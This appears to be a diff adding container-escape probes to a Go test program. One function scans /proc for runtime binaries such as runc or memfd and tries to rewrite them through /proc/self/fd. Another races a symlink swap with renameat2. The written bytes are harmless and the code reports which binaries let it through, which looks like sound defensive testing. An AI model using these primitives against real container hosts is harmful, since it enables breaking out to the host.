@@ -114,3 +114,53 @@ func bomb() {
 	signal.Notify(c, syscall.SIGTERM)
 	<-c
 }
+
+// overwrite looks for programs of the runtime's that run in this pid namespace, as they do on their way into the
+// container, and writes into each what it has there already. It says which let it.
+func overwrite() {
+	seen := map[string]bool{}
+	for {
+		programs, _ := filepath.Glob("/proc/[0-9]*/exe")
+		for _, program := range programs {
+			f, err := os.Open(program)
+			if err != nil {
+				continue
+			}
+			name, err := os.Readlink(program)
+			if err == nil && !seen[name] {
+				fmt.Println("overwrite: saw", name)
+				seen[name] = true
+			}
+			rewrite(f, name)
+			f.Close()
+		}
+	}
+}
+
+// rewrite opens the file anew for writing, which the kernel allows once nobody executes it.
+func rewrite(f *os.File, name string) {
+	if !strings.Contains(name, "coracle") && !strings.Contains(name, "memfd") && !strings.Contains(name, "runc") {
+		return
+	}
+	for range 20 {
+		w, err := os.OpenFile("/proc/self/fd/"+strconv.Itoa(int(f.Fd())), os.O_WRONLY, 0)
+		if err != nil {
+			continue
+		}
+		if _, err := w.WriteAt([]byte("\x7fELF"), 0); err == nil {
+			fmt.Println("overwrite: through", name)
+		}
+		w.Close()
+	}
+}
+
+// exchange swaps two names of a directory for ever: the second is a symbolic link.
+func exchange(dir string) {
+	a, b := filepath.Join(dir, "a"), filepath.Join(dir, "b")
+	for {
+		if err := unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE); err != nil {
+			fmt.Println("exchange:", err)
+			return
+		}
+	}
+}
